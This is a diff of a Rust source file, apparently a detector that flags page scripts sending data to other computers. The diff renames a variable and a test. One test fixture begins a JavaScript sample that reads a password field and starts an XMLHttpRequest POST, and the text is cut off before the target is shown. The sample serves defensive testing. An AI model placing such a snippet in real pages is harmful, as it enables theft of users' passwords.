@@ -91,8 +91,8 @@ pub fn sends(text: &[u8], name: &str) -> (Vec<Sent>, bool) {
     }
     let unfinished = reader.changed;
     for (node, bits, covert) in reader.found {
-        let Some(placed) = tree.nodes.get(node as usize) else { continue };
-        let range = placed.start as usize..placed.end as usize;
+        let Some(spanned) = tree.nodes.get(node as usize) else { continue };
+        let range = spanned.start as usize..spanned.end as usize;
         if sent.len() < MOST_SENT {
             sent.push(Sent { range, far: bits.intersects(Flags::FAR), covert, outlook });
         }
@@ -430,7 +430,7 @@ mod tests {
     }
 
     #[test]
-    fn a_password_that_goes_to_another_computer_is_told() {
+    fn a_password_that_goes_to_another_computer_is_reported() {
         let page = |script: &str| format!("<form><input name=password></form><script>{script}</script>");
         for script in [
             "var p = document.getElementById('password').value; var x = new XMLHttpRequest(); x.open('POST', \
